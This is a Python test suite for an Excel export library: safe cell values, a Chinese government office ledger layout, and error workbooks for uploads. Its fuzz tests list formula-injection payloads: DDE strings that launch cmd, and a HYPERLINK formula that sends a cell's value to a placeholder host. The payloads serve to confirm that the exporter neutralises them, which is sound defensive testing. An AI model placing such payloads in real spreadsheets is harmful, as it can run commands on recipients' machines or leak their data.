"""Writing office workbooks: text that is never a formula, the printed office layout, and
the error workbook that gives an upload back with its wrong cells marked."""

from __future__ import annotations

import io
from datetime import date, datetime
from typing import Any

from django.test import SimpleTestCase
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Alignment

from qingfeng.lib.xlsx import (
    BAD_FILL,
    DATE_FORMAT,
    FORMULA_START,
    OFFICE_ERRORS,
    WARN_FILL,
    Column,
    Columns,
    ColumnStyles,
    RowError,
    Sheet,
    Style,
    cell_value,
    chinese_date,
    find_header,
    new_workbook,
    office_sheet,
    open_book,
    safe,
    save,
    styled,
    write_error_sheet,
    write_error_summary,
)

LAYOUT = Columns(
    (
        Column("seq", "序号", width=6, center=True),
        Column("code", "编号", width=14, center=True, number_format="@"),
        Column("title", "问题概述", width=30, group="问题情况"),
        Column("cause", "原因分析", width=20, group="问题情况"),
        Column("unit", "责任单位", width=18, group="责任主体"),
        Column("person", "责任人", width=10, group="责任主体", center=True),
        Column("deadline", "整改时限", width=14, center=True, number_format=DATE_FORMAT),
    )
)
GREEN = "00A9D08E"


def reopened(workbook: Workbook) -> Any:
    return load_workbook(io.BytesIO(save(workbook)))


class SafeCellsTestCase(SimpleTestCase):
    def test_text_is_never_a_formula_nor_an_error_value(self) -> None:
        book = new_workbook()
        ws = book.create_sheet("表1")
        ws.append(
            [
                cell_value(ws, "=1+1"),
                cell_value(ws, "#N/A"),
                cell_value(ws, "张三\x07"),  # a control character XML cannot hold
                cell_value(ws, 12),
                Style().cell(ws, '=HYPERLINK("http://example.invalid")'),
                styled(ws, "=SUM(A1)", font=OFFICE_ERRORS.label.font),
            ]
        )
        row = reopened(book)["表1"][1]
        self.assertEqual([c.value for c in row][:4], ["=1+1", "#N/A", "张三", 12])
        self.assertEqual([c.data_type for c in row], ["s", "s", "s", "n", "s", "s"])
        self.assertEqual(row[5].value, "=SUM(A1)")

    def test_dates_as_written_on_forms(self) -> None:
        self.assertEqual(chinese_date(date(2026, 3, 5)), "2026年3月5日")
        self.assertEqual(chinese_date(None), "")


class OfficeLayoutTestCase(SimpleTestCase):
    def write(self) -> bytes:
        book = new_workbook()
        columns = LAYOUT.columns
        ws = office_sheet(
            book,
            columns,
            name="问题台账",
            title="东城区教育局作风问题整改台账",
            left="填报单位：东城区教育局",
            right="填报日期：" + chinese_date(date(2026, 3, 5)),
            freeze="C5",
        )
        styles = ColumnStyles(ws, columns)
        green = styles.prototype(alignment=Alignment(horizontal="center"), fill=BAD_FILL)
        ws.append(
            styles.row([1, "0012", "=会议多", "", "东城区实验小学", "张三", date(2026, 3, 31)])
        )
        ws.append(
            styles.row([2, "0013", "作业多", "统筹不够", "东城区第二中学", "", ""], {5: green})
        )
        return save(book)

    def test_the_office_layout_prints_and_reads_back(self) -> None:
        data = self.write()
        ws = load_workbook(io.BytesIO(data))["问题台账"]
        self.assertEqual(ws["A1"].value, "东城区教育局作风问题整改台账")
        self.assertEqual(
            (ws["A2"].value, ws["D2"].value), ("填报单位：东城区教育局", "填报日期：2026年3月5日")
        )
        merged = {str(r) for r in ws.merged_cells.ranges}
        self.assertEqual(
            merged, {"A1:G1", "A2:C2", "D2:G2", "A3:A4", "B3:B4", "C3:D3", "E3:F3", "G3:G4"}
        )
        self.assertEqual(
            [c.value for c in ws[3]],
            ["序号", "编号", "问题情况", None, "责任主体", None, "整改时限"],
        )
        self.assertEqual(
            [c.value for c in ws[4]][2:6], ["问题概述", "原因分析", "责任单位", "责任人"]
        )
        self.assertEqual((ws.freeze_panes, ws.print_title_rows), ("C5", "$3:$4"))
        self.assertEqual(
            (ws.page_setup.orientation, str(ws.page_setup.paperSize)), ("landscape", "9")
        )
        self.assertEqual(ws.column_dimensions["C"].width, 30)
        code, title, deadline = ws["B5"], ws["C5"], ws["G5"]
        self.assertEqual((code.value, code.number_format), ("0012", "@"))
        self.assertEqual((title.value, title.data_type), ("=会议多", "s"))
        self.assertEqual(
            (deadline.value, deadline.number_format), (datetime(2026, 3, 31), DATE_FORMAT)
        )
        self.assertEqual(deadline.alignment.horizontal, "center")
        self.assertEqual((title.alignment.horizontal, title.alignment.wrap_text), ("left", True))
        self.assertEqual(ws["D5"].border.left.style, "thin")  # an empty cell keeps its border
        # The exported layout is one the reader finds again, header and all.
        with open_book(data, max_rows=100) as book:
            sheet = book.read(0, Sheet)
        self.assertTrue(find_header(sheet, LAYOUT))
        self.assertEqual(sheet.header_number, 4)
        self.assertEqual(sheet.columns, {c.key: i for i, c in enumerate(LAYOUT)})

    def test_a_prototype_for_one_cell_leaves_the_columns_alone(self) -> None:
        ws = load_workbook(io.BytesIO(self.write()))["问题台账"]
        self.assertEqual(ws["F6"].fill.fgColor.rgb, BAD_FILL.fgColor.rgb)
        for ref in ("A5", "A6", "F5"):
            self.assertIsNone(ws[ref].fill.patternType, ref)
        self.assertNotEqual(ws["A6"].fill.fgColor.rgb, GREEN)


class ErrorWorkbookTestCase(SimpleTestCase):
    rows = [
        (1, ("人员名册",)),
        (3, ("姓名", "手机号", "备注", "错误说明")),  # a re-uploaded error workbook
        (4, ("张三", "123", None, "旧的说明")),
        (6, ("=1+1", "13800001234", "x")),
    ]

    def test_the_uploaded_rows_come_back_with_their_wrong_cells_marked(self) -> None:
        errors = [
            RowError("人员", 4, "手机号", "手机号格式不正确"),
            RowError("人员", 6, "", "与第 4 行重复"),
            RowError("人员", 3, "手机号", "表头重复"),
        ]
        warnings = [RowError("人员", 6, "备注", "备注未导入")]
        positions = {"姓名": 0, "手机号": 1, "备注": 2}
        book = new_workbook()
        write_error_sheet(
            book,
            name="人员",
            rows=self.rows,
            width=3,
            errors=errors,
            warnings=warnings,
            locate=lambda e: None if e.row == 3 else positions.get(e.column),
            label_row=3,
            widths={0: 10},
            freeze="A4",
        )
        ws = reopened(book)["人员"]
        self.assertEqual(ws.max_row, 6)  # rows stay at their numbers
        self.assertEqual(
            [c.value for c in ws[3]], ["姓名", "手机号", "备注", "错误说明；手机号：表头重复"]
        )
        self.assertEqual(ws["D3"].font.b, True)
        self.assertIsNone(ws["B3"].fill.patternType)  # header cells are not marked here
        self.assertEqual(ws["B4"].fill.fgColor.rgb, BAD_FILL.fgColor.rgb)
        self.assertEqual(ws["D4"].value, "手机号：手机号格式不正确")  # the old note is replaced
        self.assertEqual(ws["C6"].fill.fgColor.rgb, WARN_FILL.fgColor.rgb)
        self.assertEqual(ws["D6"].value, "与第 4 行重复；提示：备注未导入")
        self.assertEqual((ws["A6"].value, ws["A6"].data_type), ("=1+1", "s"))
        self.assertEqual(
            (ws.column_dimensions["A"].width, ws.column_dimensions["D"].width), (10, 50)
        )
        self.assertEqual(ws.freeze_panes, "A4")
        self.assertIsNone(ws["D1"].value)

    def test_a_row_with_warnings_only_is_noted_not_marked_red(self) -> None:
        book = new_workbook()
        write_error_sheet(
            book,
            name="表1",
            rows=self.rows[2:],
            width=3,
            errors=[],
            warnings=[RowError("表1", 4, "", "已在系统中")],
            locate=lambda e: None,
            label_row=0,
            look=OFFICE_ERRORS,
        )
        ws = reopened(book)["表1"]
        self.assertEqual(ws["D4"].value, "提示：已在系统中")
        self.assertIsNone(ws["D4"].font.color)  # not the red of an error
        self.assertTrue(ws["D4"].alignment.wrap_text)
        self.assertEqual(ws.column_dimensions["D"].width, 60)

    def test_the_summary_lists_every_error_and_warning(self) -> None:
        book = new_workbook()
        write_error_summary(
            book,
            [RowError("=表1", 0, "", "文件有误"), RowError("表1", 4, "手机号", "格式不正确")],
            [RowError("表1", 6, "", "已在系统中")],
        )
        rows = list(reopened(book)["错误汇总"].iter_rows(values_only=True))
        self.assertEqual(
            rows,
            [
                ("类型", "工作表", "行号", "列", "说明"),
                ("错误", "=表1", None, None, "文件有误"),
                ("错误", "表1", 4, "手机号", "格式不正确"),
                ("提示", "表1", 6, None, "已在系统中"),
            ],
        )


# What an attacker puts in a title: formulas, DDE, tab- and CR-led text, control characters.
PAYLOADS = st.one_of(
    st.text(),
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "#N/A"]).flatmap(
        lambda start: st.text().map(lambda rest: start + rest)
    ),
    st.just('=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'),
    st.just("+cmd|' /C calc'!A0"),
    st.just("@SUM(1+1)*cmd|' /C calc'!A0"),
)


class ExportFuzzTestCase(SimpleTestCase):
    """Every way a string reaches a sheet — appended bare, through a Style, through the
    office layout's column styles, into an in-memory sheet — with hostile text: the file
    opens, no cell is a formula, every string reads back as written less the characters
    XML cannot hold, and one that starts like a formula carries the quote prefix."""

    @settings(max_examples=60, deadline=None)
    @given(values=st.lists(PAYLOADS, min_size=1, max_size=6))
    def test_no_string_becomes_a_formula_or_breaks_the_file(self, values: list[str]) -> None:
        book = new_workbook()
        ws = book.create_sheet("导出")
        ws.append(values)
        ws.append([Style().cell(ws, v) for v in values])
        layout = office_sheet(
            book, LAYOUT.columns, name="台账", title=values[0], left=values[-1], right=""
        )
        styles = ColumnStyles(layout, LAYOUT.columns)
        layout.append(styles.row((values * 7)[: len(LAYOUT.columns)]))
        memory = new_workbook(write_only=False)
        sheet = memory.active
        assert sheet is not None
        sheet.append(values)
        sheet["H3"] = values[0]
        for data in (save(book), save(memory)):
            opened = load_workbook(io.BytesIO(data))
            for sheet_read in opened.worksheets:
                for row in sheet_read.iter_rows():
                    for cell in row:
                        if not isinstance(cell.value, str):
                            continue
                        self.assertNotEqual(cell.data_type, "f", cell.value)
                        self.assertEqual(cell.value, safe(cell.value))
                        if cell.value.startswith(FORMULA_START):
                            self.assertTrue(cell.quotePrefix, cell.value)
            strings = [c.value for c in opened.worksheets[0][1] if c.value is not None]
            self.assertEqual(strings, [safe(v) for v in values if safe(v) != ""])

    def test_a_workbook_not_made_for_export_is_refused(self) -> None:
        with self.assertRaises(TypeError):
            save(Workbook())
